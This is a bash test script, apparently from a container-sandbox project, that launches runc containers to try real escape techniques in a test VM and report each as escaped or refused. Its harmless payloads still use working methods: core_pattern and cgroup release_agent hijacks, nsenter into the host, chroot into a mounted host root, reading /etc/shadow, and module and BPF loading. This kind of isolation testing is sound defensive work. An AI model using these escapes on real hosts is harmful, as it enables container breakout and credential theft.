#!/usr/bin/env bash
# Real container escapes with harmless payloads, to be run in the test machine (never on a real host):
#   escape_plays.sh all | NAME... | --list
# Each play starts a runc container that tries one escape. Its output comes indented, then one line:
#   NAME: escaped                                 and the file /run/vedette-escape/NAME exists
#   NAME: refused (Operation not permitted)       with the error that the container saw
#   NAME: broken (...)                            the container did not even start: exit code 1
# A play undoes what it changed. Can also be sourced for its play_* functions.
set -uo pipefail
plays_dir=$(dirname "$(realpath "${BASH_SOURCE[0]}")")
# shellcheck source=container.sh
source "$plays_dir/container.sh"

readonly MARKERS=/run/vedette-escape
readonly BUNDLES=/run/vedette-plays
readonly PLAYS=(mount_disk core_pattern release_agent nsenter chroot_host read_shadow insmod bpf_load)
readonly ERRORS='Operation not permitted|Permission denied|Read-only file system|No such file or directory|No such device|Invalid argument|Function not implemented|Killed'

# play NAME SCRIPT [BUNDLE_OPTION]...: runs SCRIPT in a container and keeps what it printed.
# In it, $ROOT is the host's path of the container's root, $MARKER the file that proves the escape.
play() {
  local name=$1 script=$2 dir=$BUNDLES/$1
  shift 2
  mkdir -p "$MARKERS" "$BUNDLES"
  rm -rf "${MARKERS:?}/$name" "$dir"
  container_bundle "$dir" --env "ROOT=$dir/rootfs" --env "MARKER=$MARKERS/$name" "$@" \
    -- sh -c "echo started; $script" || return
  container_run "play-$name" "$dir" >"$BUNDLES/$name.output" 2>&1 </dev/null
  play_code=$?
  grep -vx started "$BUNDLES/$name.output" | sed 's/^/  /'
}

# The marker may be written by the kernel's helper a moment later.
wait_for_marker() {
  local tries
  for tries in 1 1 1 1 1 2 2; do
    [[ ! -e $MARKERS/$1 ]] || return 0
    sleep "0.$tries"
  done
}

# verdict NAME: prints the line of a finished play and removes its container.
verdict() {
  local name=$1 output=$BUNDLES/$1.output error
  # busybox's mount says this for EPERM, and for nothing else
  error=$(sed 's/permission denied (are you root?)/Operation not permitted/' "$output" | grep -oE "$ERRORS" | tail -n 1)
  [[ $play_code != 137 ]] || error=Killed
  if [[ -e $MARKERS/$name ]]; then
    echo "$name: escaped"
  elif grep -qx started "$output"; then
    echo "$name: refused (${error:-exit code $play_code, no error seen})"
  else
    echo "$name: broken ($(tail -n 1 "$output"))"
    broken=1
  fi
  container_delete "play-$name" "$BUNDLES/$name"
}

# A program in the container's root that the host's kernel is made to run.
readonly HELPER="printf '#!/bin/sh\\ntouch %s\\n' \"\$MARKER\" >/helper; chmod 755 /helper"

# The disk is the machine's first (vm --disk IMAGE, ext4), else a loop device.
play_mount_disk() {
  local disk=/dev/vda loop=''
  modprobe -qa loop ext4
  if [[ ! -b $disk ]]; then
    truncate -s 16M /run/play-disk
    mkfs.ext4 -q /run/play-disk
    loop=$(losetup -f --show /run/play-disk)
    disk=$loop
  fi
  play mount_disk "mount -t ext4 $disk /mnt && echo escaped >/mnt/vedette-escape && umount /mnt" --privileged
  mount_disk_evidence "$disk"
  [[ -z $loop ]] || { losetup -d "$loop"; rm -f /run/play-disk; }
  verdict mount_disk
}

# Looks from the host whether the container wrote to the disk, and removes it.
mount_disk_evidence() {
  mkdir -p /run/play-mnt
  mount -t ext4 "$1" /run/play-mnt || return
  [[ ! -e /run/play-mnt/vedette-escape ]] || touch "$MARKERS/mount_disk"
  rm -f /run/play-mnt/vedette-escape
  umount /run/play-mnt
}

play_core_pattern() {
  local before
  before=$(cat /proc/sys/kernel/core_pattern)
  play core_pattern "$HELPER; echo \"|\$ROOT/helper\" >/proc/sys/kernel/core_pattern || exit 1
    sleep 9 & kill -SEGV \$!; wait" --privileged
  wait_for_marker core_pattern
  echo "$before" >/proc/sys/kernel/core_pattern
  verdict core_pattern
}

# The kernel runs the release agent of a cgroup v1 hierarchy when a cgroup in it becomes empty.
play_release_agent() {
  play release_agent "$HELPER; mkdir /tmp/c && mount -t cgroup -o none,name=vedette_escape none /tmp/c || exit 1
    mkdir /tmp/c/x; echo 1 >/tmp/c/x/notify_on_release && echo \"\$ROOT/helper\" >/tmp/c/release_agent || exit 1
    sh -c 'echo \$\$ >/tmp/c/x/cgroup.procs'; sleep 0.5; rmdir /tmp/c/x; umount /tmp/c" --privileged --host-cgroup
  wait_for_marker release_agent
  verdict release_agent
}

play_nsenter() {
  play nsenter "nsenter -t 1 -m -u -i -n -p touch \$MARKER" --privileged --host-pid
  verdict nsenter
}

play_chroot_host() {
  play chroot_host "chroot /host touch \$MARKER" --bind /:/host
  verdict chroot_host
}

# In the test machine, /etc/shadow is not the real one.
play_read_shadow() {
  play read_shadow "cat /host/etc/shadow" --bind /:/host:ro
  ! grep -q '^root:' "$BUNDLES/read_shadow.output" || touch "$MARKERS/read_shadow"
  verdict read_shadow
}

play_insmod() {
  local module=${VEDETTE_VM_MODULE:-/vm/dummy.ko}
  rmmod dummy 2>/dev/null
  play insmod "insmod /dummy.ko" --privileged --add "$module:dummy.ko"
  [[ ! -e /sys/module/dummy ]] || { touch "$MARKERS/insmod"; rmmod dummy; }
  verdict insmod
}

# The static program made from bpf_load.c: $VEDETTE_BPF_LOAD, or copied by vm --copy.
play_bpf_load() {
  local program=${VEDETTE_BPF_LOAD:-/vm/bpf_load}
  if [[ ! -x $program ]]; then
    program=/run/bpf_load
    [[ -x $program ]] || gcc -static -O1 -o "$program" "$plays_dir/bpf_load.c"
  fi
  play bpf_load "/bpf_load" --privileged --add "$program:bpf_load"
  ! grep -q '^bpf_load: loaded' "$BUNDLES/bpf_load.output" || touch "$MARKERS/bpf_load"
  verdict bpf_load
}

main() {
  local name play_code=0 broken=0
  [[ ${1:-} != --list ]] || { printf '%s\n' "${PLAYS[@]}"; return; }
  [[ $# -gt 0 ]] || { sed -n '2,8s/^# \{0,1\}//p' "${BASH_SOURCE[0]}"; return 2; }
  [[ -n ${VEDETTE_VM:-} ]] || { echo "escape_plays.sh: not in the test machine: start me with vm" >&2; return 2; }
  [[ $1 != all ]] || set -- "${PLAYS[@]}"
  for name; do
    declare -F "play_$name" >/dev/null || { echo "escape_plays.sh: no play $name; there are: ${PLAYS[*]}" >&2; return 2; }
    "play_$name"
  done
  return "$broken"
}

[[ ${BASH_SOURCE[0]} != "$0" ]] || main "$@"
